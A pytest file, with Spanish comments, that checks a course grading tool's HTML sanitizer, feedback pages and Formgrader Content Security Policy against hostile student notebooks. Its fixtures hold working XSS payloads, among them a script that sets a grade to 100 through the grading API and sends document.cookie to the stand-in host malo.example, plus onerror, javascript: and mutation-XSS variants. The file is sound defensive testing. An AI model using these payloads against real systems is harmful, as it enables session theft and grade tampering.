"""Nada de lo que escribe un estudiante se ejecuta en el navegador del profesor.

Pruebas rápidas del limpiador (``course/grading/sanitize.py``), de la página de
devolución (``course/grading/feedback.py``) y de la CSP de Formgrader
(``course/jupyter/safety.py``); y una prueba en Chromium: una entrega hostil del
laboratorio 1 calificada por la puerta de confianza (``python -m course grade``) se abre
en la página de calificación manual de Formgrader y como devolución HTML, con la red
cortada (solo 127.0.0.1 o archivos locales): ningún guion del estudiante corre, ninguna
petición cambia una nota y las fórmulas se dibujan.
"""

import base64
import json
import re
import sqlite3
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import classroom
import live_server
import lxml.html
import nbformat
import pytest
from jinja2 import DictLoader, Environment
from nbconvert.filters.markdown_mistune import markdown2html_mistune
from nbformat.v4 import new_output
from tornado.httputil import HTTPHeaders

from course import labs
from course.commands import jupyter_es
from course.grading import sandbox
from course.grading.feedback import CSP, offline_page
from course.grading.sanitize import (
    ALLOWED_MIME,
    SanitizeStudentHTML,
    clean_html,
    clean_markdown,
    clean_output,
    svg_is_safe,
)
from course.jupyter import safety

LAB = labs.get("01_atencion")
ATTACK = (
    "fetch('/formgrader/api/grade/1',{method:'PUT',body:'{\"manual_score\":100}'});"
    "new Image().src='http://malo.example/?'+document.cookie;alert('xss')"
)
HOSTILE_HTML = [
    f"<script>{ATTACK}</script>",
    f'<img src="x" onerror="{ATTACK}">',
    f'<a href="javascript:{ATTACK}">pulsa</a>',
    '<iframe src="javascript:alert(1)"></iframe><object data="x.swf"></object><embed src="x">',
    '<form action="/formgrader/api/grade/1" method="post"><input name="a"></form>',
    '<meta http-equiv="refresh" content="0;url=http://malo.example/">',
    '<base href="http://malo.example/">',
    f'<svg onload="{ATTACK}"><script>{ATTACK}</script></svg>',
    f'<div style="background:url(http://malo.example/)" onmouseover="{ATTACK}">x</div>',
    f'<img src="data:text/html;base64,{base64.b64encode(b"<script>alert(1)</script>").decode()}">',
    f'<details open ontoggle="{ATTACK}">x</details>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{ATTACK}">',
]
HOSTILE_MARKDOWN = (
    "Mi respuesta: $\\frac{QK^\\top}{\\sqrt{d_k}}$.\n\n"
    f'<script>{ATTACK}</script>\n\n<img src=x onerror="{ATTACK}">\n\n'
    f"[pulsa aquí](javascript:{ATTACK})\n"
)
HOSTILE_SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{ATTACK}</script></svg>'
PANDAS = (
    "<div><style scoped>.dataframe tbody tr th {vertical-align: top;}</style>"
    '<table border="1" class="dataframe"><thead><tr><th></th><th>a</th></tr></thead>'
    "<tbody><tr><th>0</th><td>1</td></tr></tbody></table></div>"
)


@pytest.mark.parametrize("snippet", HOSTILE_HTML)
def test_hostile_html_is_stripped(snippet):
    cleaned = clean_html(snippet).lower()
    for active in ("<script", "onerror", "onload", "onmouseover", "ontoggle", "javascript:",
                   "<iframe", "<object", "<embed", "<form", "<meta", "<base", "<svg",
                   "<style", "data:text/html", "malo.example"):  # fmt: skip
        assert active not in cleaned, (snippet, cleaned)


def test_innocent_html_and_markdown_are_kept():
    cleaned = clean_html(PANDAS)
    assert '<table border="1" class="dataframe">' in cleaned and "<td>1</td>" in cleaned
    png = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="figura">'
    assert clean_html(png) == png
    honest = "# Título\n\nLa atención es $\\mathrm{softmax}(QK^\\top)V$ y `a < b`.\n\n> cita"
    assert clean_markdown(honest) == honest
    plotly = new_output(
        "display_data",
        data={
            "text/html": '<div id="f"></div><script>Plotly.newPlot("f", [])</script>',
            "image/png": "iVBORw0KGgo=",
            "application/vnd.plotly.v1+json": {"data": []},
        },
    )
    kept = clean_output(plotly).data
    assert kept["image/png"] == "iVBORw0KGgo=" and "text/html" not in kept  # se ve el PNG
    assert svg_is_safe('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>')
    assert not svg_is_safe(HOSTILE_SVG)


def _hostile_notebook() -> nbformat.NotebookNode:
    notebook = nbformat.v4.new_notebook(metadata={"widgets": {"state": {}}})
    outputs = [
        new_output("display_data", data={"text/html": snippet, "text/plain": "x"})
        for snippet in HOSTILE_HTML
    ]
    outputs += [
        new_output("display_data", data={"application/javascript": ATTACK}),
        new_output("display_data", data={"image/svg+xml": HOSTILE_SVG, "text/plain": "svg"}),
        new_output("display_data", data={"text/markdown": HOSTILE_MARKDOWN}),
        new_output("display_data", data={"image/png": "iVBORw0KGgo=", "text/plain": "fig"}),
    ]
    notebook.cells = [
        nbformat.v4.new_code_cell("x = 1", outputs=outputs),
        nbformat.v4.new_markdown_cell(HOSTILE_MARKDOWN),
        nbformat.v4.new_raw_cell(f"<script>{ATTACK}</script>", metadata={"format": "text/html"}),
    ]
    return notebook


def _active(page: str) -> list:
    """Los guiones, manejadores ``on…`` y URL ``javascript:`` de ``page`` (HTML)."""
    document = lxml.html.document_fromstring(page)
    found = [lxml.html.tostring(script)[:80] for script in document.iter("script")]
    for element in document.iter():
        found += [(element.tag, name) for name in element.attrib if name.lower().startswith("on")]
        found += [value for value in element.attrib.values() if "javascript:" in value.lower()]
    return found


def _shown_html(notebook) -> str:
    """Todo el HTML que un navegador dibujaría del cuaderno (Markdown ya convertido)."""
    parts = [markdown2html_mistune(c.source) for c in notebook.cells if c.cell_type == "markdown"]
    for cell in notebook.cells:
        for output in cell.get("outputs", []):
            data = output.get("data", {})
            parts.append(data.get("text/html", ""))
            parts.append(markdown2html_mistune(data.get("text/markdown", "")))
    return "<html><body>" + "\n".join(parts) + "</body></html>"


def test_preprocessor_leaves_no_active_content():
    notebook, _ = SanitizeStudentHTML().preprocess(_hostile_notebook(), {})
    text = json.dumps(notebook).lower()
    assert "widgets" not in notebook.metadata and "<script" not in text
    assert all(set(output.data) <= ALLOWED_MIME for output in notebook.cells[0].outputs)
    assert _active(_shown_html(notebook)) == []
    data = [output.data for output in notebook.cells[0].outputs]
    assert {"image/png": "iVBORw0KGgo=", "text/plain": "fig"} in data
    assert "sqrt{d_k}" in notebook.cells[1].source  # la fórmula sigue ahí


def test_feedback_page_has_no_script_and_math_is_mathml():
    from nbconvert import HTMLExporter

    notebook, _ = SanitizeStudentHTML().preprocess(_hostile_notebook(), {})
    page = offline_page(HTMLExporter(template_name="lab").from_notebook_node(notebook)[0])
    assert _active(page) == []
    assert f'content="{CSP}"' in page and "<math" in page and "<msqrt>" in page


def test_formgrader_policy_allows_only_nonced_scripts():
    rule = safety.policy("abc", {"'sha256-x'"}, sandbox=True)
    scripts = rule.split("script-src")[1].split(";")[0]
    assert scripts.startswith(" 'nonce-abc' 'strict-dynamic'") and "unsafe-inline" not in scripts
    assert "connect-src 'self'" in rule and rule.endswith("sandbox")
    assert "default-src 'none'" in rule and "object-src 'none'" in rule


def _respond(path: str, body: bytes, content_type: str = "text/html; charset=UTF-8"):
    transform = safety._transform("/", {"'sha256-x'"})(SimpleNamespace(path=path))
    headers = HTTPHeaders({"Content-Type": content_type, "Content-Length": str(len(body))})
    return transform.transform_first_chunk(200, headers, body, True)


def test_formgrader_responses_get_a_fresh_nonce_and_files_a_sandbox():
    page = f'<script nonce="{safety.MARKER}">ok()</script><script>alumno()</script>'.encode()
    _, headers, body = _respond("/formgrader/submissions/abc/", page)
    nonce = re.search(r"'nonce-([^']+)'", headers["Content-Security-Policy"])[1]
    assert body.decode() == f'<script nonce="{nonce}">ok()</script><script>alumno()</script>'
    assert (
        headers["Content-Length"] == str(len(body))
        and "sandbox" not in headers["Content-Security-Policy"]
    )
    _, again, _ = _respond("/formgrader/submissions/abc/", page)
    assert again["Content-Security-Policy"] != headers["Content-Security-Policy"]
    _, files, _ = _respond("/formgrader/submissions/abc/trampa.html", b"<script>x()</script>")
    assert files["Content-Security-Policy"].endswith("; sandbox")
    _, lab, _ = _respond("/lab", page)
    assert "Content-Security-Policy" not in lab  # JupyterLab no cambia


def test_a_formgrader_page_is_never_reused_from_the_browser_cache():
    """Con un 304 el navegador reusaría el HTML de la visita anterior, con su nonce viejo,
    bajo la CSP nueva: ningún guion de la página correría en la segunda visita."""
    transform = safety._transform("/", set())(SimpleNamespace(path="/formgrader/gradebook"))
    headers = HTTPHeaders({"Content-Type": "text/html", "Etag": '"abc"'})
    _, headers, _ = transform.transform_first_chunk(200, headers, b"<p>hola</p>", True)
    assert headers["Cache-Control"] == "no-store" and "Etag" not in headers


def test_a_template_script_keeps_the_one_nonce_it_already_has():
    loader = safety.NonceLoader(
        DictLoader({"t.html": '<script nonce="n1" src="a.js">'}), bool, None, set()
    )
    source, _, _ = loader.get_source(Environment(), "t.html")
    assert source.count("nonce=") == 1


# --- En Chromium ---------------------------------------------------------------------


def _hostile_submission(root: Path) -> None:
    """La entrega de mallory (salidas y respuestas hostiles) y la de ana (honesta)."""
    release = nbformat.read(root / "release" / LAB.id / f"{LAB.id}.ipynb", 4)
    for student in ("ana", "mallory"):
        notebook = nbformat.from_dict(json.loads(json.dumps(release)))
        if student == "mallory":
            for cell in notebook.cells:
                grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
                if grade_id == "ej1_puntuaciones":
                    cell.source = (
                        "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
                        f"for _s in {HOSTILE_HTML!r}:\n    display(HTML(_s))\n"
                        f"display(Javascript({ATTACK!r}))\ndisplay(SVG({HOSTILE_SVG!r}))\n"
                        f"display(Markdown({HOSTILE_MARKDOWN!r}))\n" + cell.source
                    )
                elif grade_id == "pregunta_1":
                    cell.source = HOSTILE_MARKDOWN
        nbformat.write(notebook, classroom.submission(root, student, LAB))


def _grades(root: Path) -> list:
    with sqlite3.connect(root / "gradebook.db") as db:
        return db.execute(
            "select id, auto_score, manual_score, extra_credit from grade order by id"
        ).fetchall()


@pytest.fixture(scope="module")
def graded_course(tmp_path_factory):
    live_server.skip_without_chromium()
    if sandbox.available():
        pytest.skip(f"sin aislamiento: {sandbox.available()}")
    root = classroom.course_copy(tmp_path_factory.mktemp("curso_seguro"))
    _hostile_submission(root)
    code = (
        "import sys; from pathlib import Path; from course.commands import grade;"
        f" sys.exit(grade.run(root=Path({str(root)!r}), lab_ids=[{LAB.id!r}], jobs=2,"
        " progress=False))"
    )
    done = subprocess.run([sys.executable, "-c", code], cwd=root, capture_output=True, text=True)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    return root


@pytest.fixture(scope="module")
def formgrader(graded_course):
    assert jupyter_es.run() == 0  # activa course.jupyter.safety (el paso del README)
    with live_server.running("server", graded_course) as (base, token):
        yield base, token


@pytest.fixture(scope="module")
def browser():
    with live_server.chromium() as chromium:
        yield chromium


def _offline_page(browser, allowed: str):
    """Una página sin red (solo URL que empiezan por ``allowed``) que anota lo que pasa."""
    context = browser.new_context()
    context.set_default_timeout(60_000)
    seen = {"requests": [], "blocked": [], "dialogs": [], "violations": []}

    def route(route):
        if route.request.url.startswith(allowed):
            seen["requests"].append((route.request.method, route.request.url))
            route.continue_()
        else:
            seen["blocked"].append(route.request.url)
            route.abort()

    context.route("**/*", route)
    context.add_init_script(  # lo que la CSP bloquea, para ver que Formgrader no lo necesita
        "document.addEventListener('securitypolicyviolation', event => console.log("
        "'CSP ' + event.violatedDirective + ' ' + event.blockedURI))"
    )
    page = context.new_page()
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.on(
        "console",
        lambda message: (
            message.text.startswith("CSP script") and seen["violations"].append(message.text)
        ),
    )
    return page, seen


@pytest.mark.slow
@pytest.mark.browser
def test_hostile_submission_runs_nothing_in_formgrader(graded_course, formgrader, browser):
    base, token = formgrader
    stored = graded_course / "autograded" / "mallory" / LAB.id / f"{LAB.id}.ipynb"
    assert _active(_shown_html(nbformat.read(stored, 4))) == []  # limpio ya al calificar
    before = _grades(graded_course)
    page, seen = _offline_page(browser, base)
    page.goto(f"{base}/api/status?token={token}")  # la cookie de sesión, como tras entrar
    url = f"{base}/formgrader/submissions/{classroom.submission_id(graded_course, 'mallory')}/"
    response = page.goto(url)
    policy = response.headers["content-security-policy"]
    assert "'nonce-" in policy and "'unsafe-inline'" not in policy.split("style-src")[0]
    page.wait_for_selector(".nbgrader_cell .score")
    page.wait_for_function("window.MathJax && MathJax.loaded === true", timeout=120_000)
    assert page.locator(".MathJax, .MathJax_Display").count() > 0
    page.locator(".pregunta_1, .rendered_html").first.hover()
    page.wait_for_timeout(1500)
    assert seen["dialogs"] == []
    assert seen["blocked"] == [], "la página pidió algo fuera del servidor"
    writes = [request for request in seen["requests"] if request[0] not in ("GET", "HEAD")]
    assert writes == [], writes
    assert _grades(graded_course) == before
    # Con la CSP, Formgrader sigue funcionando: el profesor pone una nota y abre un diálogo.
    score = page.locator("input.score").first
    score.fill("1")
    score.press("Tab")
    page.wait_for_timeout(1500)
    assert [method for method, _ in seen["requests"] if method != "GET"] == ["PUT"]
    page.goto(f"{base}/formgrader/manage_assignments")
    page.locator("a[onclick*=createAssignmentModal]").click()
    page.wait_for_selector(".modal-dialog")
    assert seen["violations"] == []  # con el HTML ya limpio, nada que bloquear


@pytest.mark.slow
@pytest.mark.browser
def test_hostile_feedback_runs_nothing_and_math_renders_offline(graded_course, browser):
    from nbgrader.apps import NbGraderAPI
    from nbgrader.coursedir import CourseDirectory

    from course.commands import feedback
    from course.grading import nbgrader_config

    before = _grades(graded_course)
    page_file = graded_course / "feedback" / "mallory" / LAB.id / f"{LAB.id}.html"
    config = nbgrader_config(graded_course)
    api = NbGraderAPI(coursedir=CourseDirectory(config=config), config=config)
    doors = {
        "course feedback": lambda: feedback.run([LAB.id], ["mallory"], root=graded_course),
        "generate_feedback": lambda: api.generate_feedback(LAB.id, "mallory")["success"] - 1,
    }
    for door, write in doors.items():
        assert write() == 0, door
        html = page_file.read_text()
        assert _active(html) == [] and f'content="{CSP}"' in html, door
        page, seen = _offline_page(browser, "file://")
        page.goto(page_file.as_uri())
        page.wait_for_timeout(1000)
        assert page.locator("math").count() > 0, door
        assert seen["dialogs"] == [] and seen["blocked"] == [], (door, seen)
    assert _grades(graded_course) == before
